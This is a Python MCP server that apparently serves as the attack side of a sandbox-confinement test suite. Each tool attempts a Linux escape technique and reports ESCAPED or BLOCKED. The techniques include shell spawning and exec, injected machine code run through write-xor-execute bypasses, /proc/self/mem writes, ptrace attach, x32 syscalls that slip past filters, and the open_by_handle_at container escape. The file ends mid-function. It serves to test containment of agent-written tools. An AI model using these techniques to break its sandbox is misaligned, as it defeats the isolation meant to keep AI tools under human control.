"""Attack tool for the autotool escape suite.

A plain MCP server on the official Python SDK, as an agent could write it. Each tool function
performs one attack and returns a string starting with

- ``ESCAPED:`` and the evidence, when the attack worked;
- ``BLOCKED:`` and the error, when it did not;
- ``WORKS:`` / ``SENT:`` for the few functions that check something must keep working, or
  whose effect only the host side can judge (a UDP datagram).

Expected failures never raise: the test reads the verdict from the returned text. Nothing here
writes to stdout, which is the JSON-RPC channel. The suite runs every function confined (it must
be blocked) and as a control without the launcher (it must work), so each attack is written to
succeed on an ordinary Linux host.
"""

import asyncio
import ctypes
import errno
import json
import mmap
import os
import platform
import random
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid

from mcp.server.mcpserver import MCPServer

mcp = MCPServer("attack_tool")

# The descriptors this process started with (before any event loop made its own).
STARTED_WITH = sorted(int(n) for n in os.listdir("/proc/self/fd"))

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
]
LIBC.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
LIBC.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
LIBC.ptrace.restype = ctypes.c_long
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
LIBC.mount.argtypes = [
    ctypes.c_char_p,
    ctypes.c_char_p,
    ctypes.c_char_p,
    ctypes.c_ulong,
    ctypes.c_void_p,
]
LIBC.umount2.argtypes = [ctypes.c_char_p, ctypes.c_int]
LIBC.unshare.argtypes = [ctypes.c_int]

# x86_64 syscall numbers (the suite runs on x86_64 Linux).
SYS_ADD_KEY = 248
SYS_IO_URING_SETUP = 425
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
PTRACE_TRACEME = 0
PTRACE_ATTACH = 16
PTRACE_DETACH = 17
KEY_SPEC_PROCESS_KEYRING = -2
WALL = 0x40000000
PR_SET_PDEATHSIG = 1
PR_GET_PDEATHSIG = 2
PR_SET_NAME = 15


def _err(e: BaseException) -> str:
    return f"{type(e).__name__}: {e}"


def _errno() -> str:
    err = ctypes.get_errno()
    return f"{errno.errorcode.get(err, err)} ({os.strerror(err)})"


def _tmp() -> str:
    return tempfile.gettempdir()


def _unique(prefix: str) -> str:
    return os.path.join(_tmp(), f"{prefix}-{uuid.uuid4().hex[:12]}")


def _child_status(pid: int) -> int:
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status)


def _in_forked_child(action) -> str | None:
    """Run ``action`` (returning 0 on success) in a forked child; None if fork itself failed."""
    try:
        pid = os.fork()
    except OSError:
        return None
    if pid == 0:
        try:
            os._exit(action())
        except BaseException:  # noqa: BLE001 - the child must never return
            os._exit(99)
    code = _child_status(pid)
    return "ok" if code == 0 else f"child exit {code}"


# ---------------------------------------------------------------------------------------------
# Liveness and processes.


@mcp.tool()
def ping() -> str:
    """Answer, to show the server still works."""
    return "WORKS: pong"


@mcp.tool()
def run_subprocess() -> str:
    """Start /bin/sh with subprocess.run."""
    try:
        out = subprocess.run(
            ["/bin/sh", "-c", "echo shell-pid-$$"], capture_output=True, timeout=10, check=False
        )
    except Exception as e:  # noqa: BLE001 - every failure is a verdict
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: subprocess printed {out.stdout.decode(errors='replace').strip()!r}"


@mcp.tool()
def run_os_system() -> str:
    """Run a shell with os.system; the shell exits 7."""
    try:
        rc = os.system("exit 7")
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    if rc != -1 and os.waitstatus_to_exitcode(rc) == 7:
        return "ESCAPED: os.system ran a shell that exited 7"
    return f"BLOCKED: os.system returned {rc}"


@mcp.tool()
def run_posix_spawn() -> str:
    """Start /bin/sh with os.posix_spawn; the shell exits 7."""
    try:
        pid = os.posix_spawn("/bin/sh", ["sh", "-c", "exit 7"], {})
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    code = _child_status(pid)
    if code == 7:
        return f"ESCAPED: posix_spawn started pid {pid}, which exited 7"
    return f"BLOCKED: spawned pid {pid} exited {code}"


@mcp.tool()
def random_draws() -> str:
    """64 bits from `random` here, and from a child forked here by libc's fork, which skips
    Python's at-fork handlers (`os.fork` reseeds `random` in its child by itself): the child
    draws from the parent's state, as every tool forked from one template would without its
    reseed. `forked_child` is null where this tool may not fork."""
    r, w = os.pipe()
    pid = ctypes.PyDLL(None).fork()  # the GIL stays held: the child is this thread alone
    if pid == 0:
        os.write(w, str(random.getrandbits(64)).encode())
        os._exit(0)
    mine = random.getrandbits(64)
    os.close(w)
    child = None
    if pid > 0:
        child = int(os.read(r, 64) or b"-1")
        _child_status(pid)
    os.close(r)
    return json.dumps({"mine": mine, "forked_child": child})


@mcp.tool()
def run_fork() -> str:
    """os.fork; the child exits 7."""
    try:
        pid = os.fork()
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    if pid == 0:
        os._exit(7)
    code = _child_status(pid)
    if code == 7:
        return f"ESCAPED: forked pid {pid}, which exited 7"
    return f"BLOCKED: forked pid {pid} exited {code}"


@mcp.tool()
def exec_shell(marker: str) -> str:
    """Replace this process with /bin/sh, which prints ``marker`` to stderr.

    The SDK keeps the JSON-RPC channel on a private close-on-exec descriptor, so an exec'd
    program cannot answer; when exec works the call never returns and the marker shows up on
    stderr instead.
    """
    try:
        sys.stderr.flush()
        os.execv("/bin/sh", ["sh", "-c", 'echo "$1: exec\'d /bin/sh as pid $$" >&2', "sh", marker])
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return "BLOCKED: execv returned"  # unreachable


@mcp.tool()
def start_threads(count: int = 8) -> str:
    """Start ``count`` threads, join them, return what they computed."""
    results = [None] * count

    def work(i: int) -> None:
        results[i] = sum(range(i * 1000))

    threads = [threading.Thread(target=work, args=(i,)) for i in range(count)]
    try:
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=10)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    if any(r is None for r in results):
        return f"BLOCKED: some threads did not finish: {results}"
    return f"WORKS: {count} threads joined, results {results}"


# ---------------------------------------------------------------------------------------------
# Files.


@mcp.tool()
def read_file(path: str) -> str:
    """Read a file by absolute path."""
    try:
        with open(path, "rb") as f:
            data = f.read(4096)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: read {path}: {data.decode(errors='replace')!r}"


@mcp.tool()
def read_via_symlink(target: str) -> str:
    """Make a symlink in the temporary directory pointing at ``target`` and read through it."""
    link = _unique("link")
    try:
        os.symlink(target, link)
        with open(link, "rb") as f:
            data = f.read(4096)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    finally:
        try:
            os.unlink(link)
        except OSError:
            pass
    return f"ESCAPED: read {target} through {link}: {data.decode(errors='replace')!r}"


@mcp.tool()
def list_dir(path: str) -> str:
    """List a directory."""
    try:
        entries = sorted(os.listdir(path))
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: {path} holds {entries[:50]}"


@mcp.tool()
def write_file(path: str, content: str = "written by attack_tool\n") -> str:
    """Create or append to a file."""
    try:
        with open(path, "a") as f:
            f.write(content)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: wrote {len(content)} bytes to {path}"


@mcp.tool()
def touch_device(path: str) -> str:
    """Set a device node's timestamps to now (``utime`` with no times: needs only write
    permission, which every user has on ``/dev/null``). Through a bind of the host's node this
    changes the host's node."""
    try:
        os.utime(path)
        st = os.stat(path)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: utime {path}: {_err(e)}"
    return f"ESCAPED: utime {path}: mtime now {st.st_mtime_ns}"


@mcp.tool()
def mount_options(path: str) -> str:
    """The options of the mount at ``path``, from /proc/self/mountinfo (the last mount there)."""
    found = None
    with open("/proc/self/mountinfo") as f:
        for line in f:
            fields = line.split()
            if fields[4] == path:
                found = fields[5]
    return f"WORKS: {found}"


def _read_text(path: str) -> str:
    try:
        with open(path, errors="replace") as f:
            return f.read()
    except Exception as e:  # noqa: BLE001
        return f"error: {_err(e)}"


@mcp.tool()
def mount_tables() -> str:
    """The process's mount table through every file that shows one (the whole process's, its
    main thread's, a fresh thread's by each of its names, the init's), and its memory map,
    which names the file behind each mapping: everything a tool can learn of where its mounts
    come from."""
    me = os.getpid()
    names = ["mountinfo", "mounts", "mountstats"]
    seen = {f"/proc/self/{n}": _read_text(f"/proc/self/{n}") for n in names}
    seen[f"/proc/{me}/mountinfo"] = _read_text(f"/proc/{me}/mountinfo")
    seen["/proc/1/mountinfo"] = _read_text("/proc/1/mountinfo")
    seen["/proc/self/maps"] = _read_text("/proc/self/maps")

    def in_thread():
        tid = threading.get_native_id()
        for path in [
            "/proc/thread-self/mountinfo",
            f"/proc/self/task/{tid}/mountinfo",
            f"/proc/{tid}/mountinfo",
        ]:
            seen[path.replace(str(tid), "TID")] = _read_text(path)

    t = threading.Thread(target=in_thread)
    t.start()
    t.join()
    return "WORKS: " + json.dumps(seen)


@mcp.tool()
def peek(paths: list[str]) -> str:
    """How much each path holds: bytes of a file (up to 64 KiB), entries of a directory, or
    the error. Host-wide files of /proc hold something on any host; masked, they hold nothing."""
    seen = {}
    for path in paths:
        try:
            if os.path.isdir(path):
                seen[path] = {"entries": len(os.listdir(path))}
            else:
                # Non-blocking: /proc/kmsg waits for the next kernel message otherwise.
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                with open(fd, "rb") as f:
                    seen[path] = {"bytes": len(f.read(65536) or b"")}
        except Exception as e:  # noqa: BLE001
            seen[path] = {"error": _err(e)}
    return "WORKS: " + json.dumps(seen)


@mcp.tool()
def rename_file(source: str, destination: str) -> str:
    """Rename a file."""
    try:
        os.rename(source, destination)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: renamed {source} to {destination}"


@mcp.tool()
def make_link(source: str, link: str, symbolic: bool) -> str:
    """Make a hard link (or a symbolic link) at ``link`` to ``source``."""
    try:
        if symbolic:
            os.symlink(source, link)
        else:
            os.link(source, link, follow_symlinks=False)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    kind = "symlink" if symbolic else "hard link"
    return f"ESCAPED: made the {kind} {link} to {source}"


@mcp.tool()
def delete_file(path: str) -> str:
    """Delete a file."""
    try:
        os.unlink(path)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: deleted {path}"


@mcp.tool()
def private_dirs_roundtrip() -> str:
    """Write, read, rename and delete in the temporary and home directories."""
    done = []
    for base in (_tmp(), os.path.expanduser("~")):
        try:
            path = os.path.join(base, f"roundtrip-{uuid.uuid4().hex[:8]}")
            with open(path, "w") as f:
                f.write("hello")
            with open(path) as f:
                assert f.read() == "hello"
            os.rename(path, path + ".moved")
            os.mkdir(path + ".dir")
            os.rmdir(path + ".dir")
            os.unlink(path + ".moved")
            done.append(base)
        except Exception as e:  # noqa: BLE001
            return f"BLOCKED: in {base}: {_err(e)}"
    return f"WORKS: wrote, renamed and deleted in {done}"


@mcp.tool()
def fill_tmp(mib: int, where: str = "tmp") -> str:
    """Write ``mib`` MiB into one file in the temporary (or home) directory."""
    base = _tmp() if where == "tmp" else os.path.expanduser("~")
    path = os.path.join(base, f"fill-{uuid.uuid4().hex[:8]}")
    chunk = b"\0" * (1 << 20)
    written = 0
    try:
        with open(path, "wb") as f:
            for _ in range(mib):
                f.write(chunk)
                f.flush()
                written += 1
            os.fsync(f.fileno())
    except OSError as e:
        return f"BLOCKED: {errno.errorcode.get(e.errno, e.errno)} after {written} MiB: {e}"
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass
    return f"ESCAPED: wrote {written} MiB to {base}"


# ---------------------------------------------------------------------------------------------
# Memory and code loading.


@mcp.tool()
def load_library(path: str, copy_to_tmp: bool = True) -> str:
    """ctypes-load a shared library, first copied into the temporary directory."""
    target = path
    try:
        if copy_to_tmp:
            target = _unique("libescape") + ".so"
            shutil.copyfile(path, target)
        lib = ctypes.CDLL(target)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: loaded {target} at handle {lib._handle:#x}"


@mcp.tool()
def rwx_mmap() -> str:
    """Map anonymous memory readable, writable and executable."""
    try:
        m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    m.close()
    return "ESCAPED: mapped 4096 bytes rwx"


@mcp.tool()
def mprotect_exec() -> str:
    """Write machine code into anonymous memory, make it executable with mprotect, run it."""
    size = 4096
    addr = LIBC.mmap(
        None, size, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0
    )
    if addr in (None, ctypes.c_void_p(-1).value):
        return f"BLOCKED: anonymous rw mmap failed: {_errno()}"
    try:
        # mov eax, 42; ret
        code = b"\xb8\x2a\x00\x00\x00\xc3"
        ctypes.memmove(addr, code, len(code))
        if LIBC.mprotect(addr, size, mmap.PROT_READ | mmap.PROT_EXEC) != 0:
            return f"BLOCKED: mprotect(PROT_EXEC): {_errno()}"
        if platform.machine() != "x86_64":
            return "ESCAPED: mprotect made anonymous memory executable"
        result = ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
        return f"ESCAPED: injected code ran and returned {result}"
    finally:
        LIBC.munmap(addr, size)


# mov eax, 42; ret
RETURN_42 = b"\xb8\x2a\x00\x00\x00\xc3"


def _perms(addr: int) -> str:
    """The permission string of the mapping holding ``addr``, from /proc/self/maps."""
    with open("/proc/self/maps") as f:
        for line in f:
            span, perms = line.split()[:2]
            start, end = (int(x, 16) for x in span.split("-"))
            if start <= addr < end:
                return perms
    return "????"


def _run_code_at(addr: int, how: str) -> str:
    """Write RETURN_42 at ``addr`` (writable and executable) and call it."""
    perms = _perms(addr)
    if "x" not in perms:
        return f"BLOCKED: {how}: the mapping is {perms}, not executable"
    if "w" not in perms or platform.machine() != "x86_64":
        return f"ESCAPED: {how}: got an executable mapping ({perms})"
    ctypes.memmove(addr, RETURN_42, len(RETURN_42))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
    return f"ESCAPED: {how}: code written to a {perms} mapping ran and returned {result}"


@mcp.tool()
def personality_exec() -> str:
    """personality(READ_IMPLIES_EXEC), then map anonymous memory readable and writable."""
    read_implies_exec = 0x0400000
    LIBC.personality.restype = ctypes.c_int
    LIBC.personality.argtypes = [ctypes.c_ulong]
    old = LIBC.personality(0xFFFFFFFF)
    if LIBC.personality(old | read_implies_exec) == -1:
        return f"BLOCKED: personality(READ_IMPLIES_EXEC): {_errno()}"
    try:
        addr = LIBC.mmap(
            None,
            4096,
            mmap.PROT_READ | mmap.PROT_WRITE,
            mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
            -1,
            0,
        )
        if addr in (None, ctypes.c_void_p(-1).value):
            return f"BLOCKED: mmap after personality: {_errno()}"
        try:
            return _run_code_at(addr, "READ_IMPLIES_EXEC")
        finally:
            LIBC.munmap(addr, 4096)
    finally:
        LIBC.personality(old)


@mcp.tool()
def shm_exec() -> str:
    """Attach a System V shared memory segment with SHM_EXEC."""
    ipc_private, ipc_creat, ipc_rmid, shm_exec_flag = 0, 0o1000, 0, 0o100000
    LIBC.shmget.restype = ctypes.c_int
    LIBC.shmat.restype = ctypes.c_void_p
    LIBC.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    LIBC.shmdt.argtypes = [ctypes.c_void_p]
    shmid = LIBC.shmget(ipc_private, 4096, ipc_creat | 0o700)  # SHM_EXEC needs the x bit
    if shmid < 0:
        return f"BLOCKED: shmget: {_errno()}"
    try:
        addr = LIBC.shmat(shmid, None, shm_exec_flag)
        if addr in (None, ctypes.c_void_p(-1).value):
            return f"BLOCKED: shmat(SHM_EXEC): {_errno()}"
        try:
            return _run_code_at(addr, "shmat(SHM_EXEC)")
        finally:
            LIBC.shmdt(addr)
    finally:
        LIBC.shmctl(shmid, ipc_rmid, None)


@mcp.tool()
def dev_zero_exec() -> str:
    """Map /dev/zero privately, readable, writable and executable."""
    try:
        fd = os.open("/dev/zero", os.O_RDWR)
    except OSError as e:
        return f"BLOCKED: open /dev/zero: {_err(e)}"
    try:
        prot = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        addr = LIBC.mmap(None, 4096, prot, mmap.MAP_PRIVATE, fd, 0)
        if addr in (None, ctypes.c_void_p(-1).value):
            return f"BLOCKED: mmap /dev/zero rwx: {_errno()}"
        try:
            return _run_code_at(addr, "/dev/zero mapping")
        finally:
            LIBC.munmap(addr, 4096)
    finally:
        os.close(fd)


def _failed(addr) -> bool:
    return addr in (None, ctypes.c_void_p(-1).value)


def _double_view(first: int, how: str) -> str:
    """Given an r-x shared mapping at ``first``, alias it with mremap, make the alias writable,
    write code through the alias and run it through the original."""
    LIBC.mremap.restype = ctypes.c_void_p
    second = LIBC.mremap(
        ctypes.c_void_p(first), ctypes.c_size_t(0), ctypes.c_size_t(4096), ctypes.c_int(1)
    )
    if _failed(second):
        return f"{how}: mremap alias: {_errno()}"
    try:
        if LIBC.mprotect(second, 4096, mmap.PROT_READ | mmap.PROT_WRITE) != 0:
            return f"{how}: mprotect alias rw: {_errno()}"
        ctypes.memmove(second, RETURN_42, len(RETURN_42))
        if "x" not in _perms(first) or platform.machine() != "x86_64":
            return f"{how}: original view is {_perms(first)}"
        result = ctypes.CFUNCTYPE(ctypes.c_int)(first)()
        return f"ESCAPED: {how}: code written through an rw alias ran and returned {result}"
    finally:
        LIBC.munmap(second, 4096)


@mcp.tool()
def double_mapping() -> str:
    """Write-xor-execute bypasses: two views of the same memory, one writable, one executable."""
    rx = mmap.PROT_READ | mmap.PROT_EXEC
    shared = mmap.MAP_SHARED
    outcomes = []
    # 1. Anonymous shared memory, mapped r-x, aliased with mremap.
    addr = LIBC.mmap(None, 4096, rx, shared | mmap.MAP_ANONYMOUS, -1, 0)
    if _failed(addr):
        outcomes.append(f"anonymous shared r-x: {_errno()}")
    else:
        try:
            outcomes.append(_double_view(addr, "anonymous shared"))
        finally:
            LIBC.munmap(addr, 4096)
    # 2. /dev/zero shared (shmem behind it), the same way.
    try:
        fd = os.open("/dev/zero", os.O_RDWR)
    except OSError as e:
        outcomes.append(f"/dev/zero: {_err(e)}")
    else:
        addr = LIBC.mmap(None, 4096, rx, shared, fd, 0)
        os.close(fd)
        if _failed(addr):
            outcomes.append(f"/dev/zero shared r-x: {_errno()}")
        else:
            try:
                outcomes.append(_double_view(addr, "/dev/zero shared"))
            finally:
                LIBC.munmap(addr, 4096)
    # 3. System V shared memory attached twice: read+exec, and read+write.
    LIBC.shmget.restype = ctypes.c_int
    LIBC.shmat.restype = ctypes.c_void_p
    LIBC.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    LIBC.shmdt.argtypes = [ctypes.c_void_p]
    shmid = LIBC.shmget(0, 4096, 0o1000 | 0o700)  # IPC_CREAT, rwx for us (SHM_EXEC needs x)
    if shmid < 0:
        outcomes.append(f"shmget: {_errno()}")
    else:
        try:
            x_view = LIBC.shmat(shmid, None, 0o10000 | 0o100000)  # SHM_RDONLY | SHM_EXEC
            w_view = LIBC.shmat(shmid, None, 0)
            if _failed(x_view) or _failed(w_view):
                outcomes.append(f"shmat twice: {_errno()}")
            elif platform.machine() == "x86_64":
                ctypes.memmove(w_view, RETURN_42, len(RETURN_42))
                result = ctypes.CFUNCTYPE(ctypes.c_int)(x_view)()
                outcomes.append(f"ESCAPED: shm: code written through one view ran ({result})")
            for view in (x_view, w_view):
                if not _failed(view):
                    LIBC.shmdt(view)
        finally:
            LIBC.shmctl(shmid, 0, None)
    # 4. A file in the temporary directory mapped twice (the mount is noexec).
    path = _unique("code")
    try:
        with open(path, "wb") as f:
            f.write(b"\0" * 4096)
        fd = os.open(path, os.O_RDWR)
        try:
            addr = LIBC.mmap(None, 4096, rx, shared, fd, 0)
            if _failed(addr):
                outcomes.append(f"tmp file r-x: {_errno()}")
            else:
                LIBC.munmap(addr, 4096)
                outcomes.append(f"ESCAPED: mapped a file in {_tmp()} executable")
        finally:
            os.close(fd)
    finally:
        os.unlink(path)
    escaped = [o for o in outcomes if o.startswith("ESCAPED")]
    if escaped:
        return "ESCAPED: " + " | ".join(o.removeprefix("ESCAPED: ") for o in escaped)
    return "BLOCKED: " + "; ".join(outcomes)


@mcp.tool()
def pkey_mprotect_exec() -> str:
    """Make anonymous memory executable with pkey_mprotect, mprotect's less-watched twin."""
    sys_pkey_mprotect = 329
    addr = LIBC.mmap(
        None, 4096, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0
    )
    if _failed(addr):
        return f"BLOCKED: anonymous rw mmap failed: {_errno()}"
    try:
        ctypes.memmove(addr, RETURN_42, len(RETURN_42))
        rc = LIBC.syscall(
            ctypes.c_long(sys_pkey_mprotect),
            ctypes.c_void_p(addr),
            ctypes.c_size_t(4096),
            ctypes.c_long(mmap.PROT_READ | mmap.PROT_EXEC),
            ctypes.c_long(-1),
        )
        if rc != 0:
            return f"BLOCKED: pkey_mprotect(PROT_EXEC): {_errno()}"
        if platform.machine() != "x86_64":
            return "ESCAPED: pkey_mprotect made anonymous memory executable"
        result = ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
        return f"ESCAPED: pkey_mprotect made injected code runnable; it returned {result}"
    finally:
        LIBC.munmap(addr, 4096)


@mcp.tool()
def file_mapping_exec(path: str) -> str:
    """Turn a private mapping of an executable system file into writable code: mapped rwx at
    once, or mapped r-x, made rw-, written, and made r-x again."""
    outcomes = []
    fd = os.open(path, os.O_RDONLY)
    try:
        rwx = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        addr = LIBC.mmap(None, 4096, rwx, mmap.MAP_PRIVATE, fd, 0)
        if _failed(addr):
            outcomes.append(f"private rwx: {_errno()}")
        else:
            try:
                return _run_code_at(addr, f"private rwx mapping of {path}")
            finally:
                LIBC.munmap(addr, 4096)
        rx = mmap.PROT_READ | mmap.PROT_EXEC
        addr = LIBC.mmap(None, 4096, rx, mmap.MAP_PRIVATE, fd, 0)
        if _failed(addr):
            outcomes.append(f"private r-x: {_errno()}")
        else:
            try:
                if LIBC.mprotect(addr, 4096, mmap.PROT_READ | mmap.PROT_WRITE) != 0:
                    outcomes.append(f"mprotect rw: {_errno()}")
                else:
                    ctypes.memmove(addr, RETURN_42, len(RETURN_42))
                    if LIBC.mprotect(addr, 4096, rx) != 0:
                        outcomes.append(f"mprotect back to r-x: {_errno()}")
                    else:
                        return _run_code_at_readonly(addr, f"r-x → rw- → r-x of {path}")
            finally:
                LIBC.munmap(addr, 4096)
    finally:
        os.close(fd)
    return "BLOCKED: " + "; ".join(outcomes)


def _run_code_at_readonly(addr: int, how: str) -> str:
    if platform.machine() != "x86_64":
        return f"ESCAPED: {how}: patched code is executable"
    result = ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
    return f"ESCAPED: {how}: patched code ran and returned {result}"


@mcp.tool()
def proc_self_mem() -> str:
    """Rewrite (with identical bytes) the start of an executable page through /proc/self/mem."""
    with open("/proc/self/maps") as f:
        start = next(int(line.split("-")[0], 16) for line in f if line.split()[1].startswith("r-x"))
    try:
        fd = os.open("/proc/self/mem", os.O_RDWR)
    except OSError as e:
        return f"BLOCKED: open /proc/self/mem for writing: {_err(e)}"
    try:
        original = os.pread(fd, 16, start)
        written = os.pwrite(fd, original, start)
    except OSError as e:
        return f"BLOCKED: write through /proc/self/mem: {_err(e)}"
    finally:
        os.close(fd)
    return f"ESCAPED: wrote {written} bytes into the r-x page at {start:#x}"


@mcp.tool()
def raw_clone() -> str:
    """clone(SIGCHLD) and clone3 straight through syscall(2), bypassing the C library."""
    sys_clone, sys_clone3, sigchld = 56, 435, 17
    results = []
    pid = LIBC.syscall(ctypes.c_long(sys_clone), ctypes.c_long(sigchld), 0, 0, 0, 0)
    if pid == 0:
        os._exit(7)
    if pid > 0:
        return f"ESCAPED: clone made pid {pid}, which exited {_child_status(pid)}"
    results.append(f"clone: {_errno()}")
    args = (ctypes.c_uint64 * 11)()
    args[4] = sigchld  # exit_signal
    pid = LIBC.syscall(ctypes.c_long(sys_clone3), ctypes.byref(args), ctypes.c_long(88))
    if pid == 0:
        os._exit(7)
    if pid > 0:
        return f"ESCAPED: clone3 made pid {pid}, which exited {_child_status(pid)}"
    results.append(f"clone3: {_errno()}")
    return f"BLOCKED: {'; '.join(results)}"


@mcp.tool()
def kernel_syscall(name: str) -> str:
    """One call into a kernel interface a tool never needs: bpf, perf_event_open, userfaultfd,
    open_by_handle_at."""
    if name == "bpf":
        # BPF_MAP_CREATE of a 1-entry array map.
        attr = (ctypes.c_uint32 * 32)()
        attr[0], attr[1], attr[2], attr[3] = 2, 4, 4, 1
        fd = LIBC.syscall(ctypes.c_long(321), ctypes.c_long(0), ctypes.byref(attr), 128)
    elif name == "perf_event_open":
        # A software task-clock counter on this thread.
        attr = (ctypes.c_uint32 * 32)()
        attr[0], attr[1] = 1, 128  # PERF_TYPE_SOFTWARE, size
        fd = LIBC.syscall(
            ctypes.c_long(298), ctypes.byref(attr), ctypes.c_long(0), ctypes.c_long(-1), -1, 0
        )
    elif name == "userfaultfd":
        fd = LIBC.syscall(ctypes.c_long(323), ctypes.c_long(1))  # UFFD_USER_MODE_ONLY
    elif name == "open_by_handle_at":
        # The "shocker" container escape: open a file by handle, without a path.
        handle = (ctypes.c_uint32 * 34)()
        handle[0] = 128  # handle_bytes
        mount_id = ctypes.c_int()
        path = os.path.abspath(__file__).encode()
        rc = LIBC.syscall(
            ctypes.c_long(303),
            ctypes.c_long(-100),
            ctypes.c_char_p(path),
            ctypes.byref(handle),
            ctypes.byref(mount_id),
            ctypes.c_long(0),
        )
        if rc != 0:
            return f"BLOCKED: name_to_handle_at: {_errno()}"
        mount_fd = os.open(os.path.dirname(path), os.O_RDONLY)
        try:
            fd = LIBC.syscall(
                ctypes.c_long(304), ctypes.c_long(mount_fd), ctypes.byref(handle), ctypes.c_long(0)
            )
        finally:
            os.close(mount_fd)
    else:
        return f"BLOCKED: unknown syscall {name}"
    if fd < 0:
        return f"BLOCKED: {name}: {_errno()}"
    os.close(fd)
    return f"ESCAPED: {name} gave fd {fd}"


@mcp.tool()
def memfd() -> str:
    """Create an anonymous memory file (the first step of loading code that never hit a disk)."""
    try:
        fd = os.memfd_create("escape")
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    os.close(fd)
    return f"ESCAPED: memfd_create gave fd {fd}"


# ---------------------------------------------------------------------------------------------
# Kernel interfaces.


@mcp.tool()
def add_key() -> str:
    """Add a key to the process keyring with the add_key syscall."""
    key = LIBC.syscall(
        ctypes.c_long(SYS_ADD_KEY),
        ctypes.c_char_p(b"user"),
        ctypes.c_char_p(b"autotool-escape"),
        ctypes.c_char_p(b"payload"),
        ctypes.c_long(7),
        ctypes.c_long(KEY_SPEC_PROCESS_KEYRING),
    )
    if key < 0:
        return f"BLOCKED: add_key: {_errno()}"
    return f"ESCAPED: add_key created key {key}"


@mcp.tool()
def x32_syscall() -> str:
    """getpid through the x32 ABI (syscall number | 0x40000000), which filters written for
    x86-64 numbers can miss."""
    pid = LIBC.syscall(ctypes.c_long(0x40000000 | 39))
    if pid < 0:
        return f"BLOCKED: x32 getpid: {_errno()}"
    return f"ESCAPED: x32 getpid returned {pid}"


@mcp.tool()
def io_uring() -> str:
    """Set up an io_uring instance."""
    params = ctypes.create_string_buffer(120)
    fd = LIBC.syscall(ctypes.c_long(SYS_IO_URING_SETUP), ctypes.c_long(8), params)
    if fd < 0:
        return f"BLOCKED: io_uring_setup: {_errno()}"
    os.close(fd)
    return f"ESCAPED: io_uring_setup gave fd {fd}"


@mcp.tool()
def ptrace_attack(pid: int) -> str:
    """PTRACE_ATTACH to ``pid`` and to the parent; then PTRACE_TRACEME."""
    failures = []
    for target in dict.fromkeys([pid, os.getppid()]):
        if target in (0, os.getpid()):
            failures.append(f"skip pid {target}")
            continue
        if LIBC.ptrace(PTRACE_ATTACH, target, None, None) == 0:
            try:
                os.waitpid(target, WALL)
            except OSError:
                pass
            LIBC.ptrace(PTRACE_DETACH, target, None, None)
            return f"ESCAPED: attached to pid {target}"
        failures.append(f"attach {target}: {_errno()}")
    if LIBC.ptrace(PTRACE_TRACEME, 0, None, None) == 0:
        return f"ESCAPED: PTRACE_TRACEME succeeded ({'; '.join(failures)})"
    failures.append(f"traceme: {_errno()}")
    return f"BLOCKED: {'; '.join(failures)}"


def _unshare_user() -> int:
    return 0 if LIBC.unshare(CLONE_NEWUSER) == 0 else 1


def _mount_tmpfs(target: bytes) -> int:
    return 0 if LIBC.mount(b"none", target, b"tmpfs", 0, None) == 0 else 1


@mcp.tool()
def unshare_user() -> str:
    """Enter a new user namespace, in this process and, where fork works, in a child."""
    if LIBC.unshare(CLONE_NEWUSER) == 0:
        return "ESCAPED: unshare(CLONE_NEWUSER) in the tool process"
    direct = _errno()
    # A multithreaded process may not unshare its user namespace (EINVAL); a forked,
    # single-threaded child may.
    forked = _in_forked_child(_unshare_user)
    if forked == "ok":
